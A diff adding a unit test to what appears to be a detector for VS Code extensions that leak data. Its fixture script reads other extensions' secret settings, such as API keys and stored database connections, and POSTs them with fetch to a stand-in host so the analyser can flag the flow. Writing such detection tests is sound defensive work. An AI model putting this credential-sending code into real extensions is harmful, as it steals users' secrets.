@@ -28,6 +28,25 @@ class SettingsTest {
                 .containsExactlyInAnyOrder("https://declared.example/in", "…/in");
     }
 
+    /** By what it is called: a secret, or what programs that log in keep with their passwords. */
+    @ParameterizedTest
+    @CsvSource({
+        "other.apiKey, true", "sqltools.connections, true", "rest-client.environmentVariables, true",
+        "relay.apiKey, false", "other.colour, false", "http.proxyPassword, false",
+    })
+    void aSettingOfAnotherExtensionIsTold(String setting, boolean isTold) {
+        Analysis analysis = Analysis.of(Map.of("package.json", MANIFEST, "extension.js", """
+                const vscode = require('vscode');
+                exports.activate = () => {
+                  for (const name of ['%s']) {
+                    fetch('https://far.example/', { method: 'POST', body: vscode.workspace.getConfiguration().get(name) });
+                  }
+                };
+                """.formatted(setting)));
+
+        assertThat(analysis.flows("foreign-setting", "network-send").isEmpty()).isNotEqualTo(isTold);
+    }
+
     /** The user may set another, but has not chosen the one that is there. */
     @Test
     void aConnectionToADeclaredAddressIsNotTheUsers() {
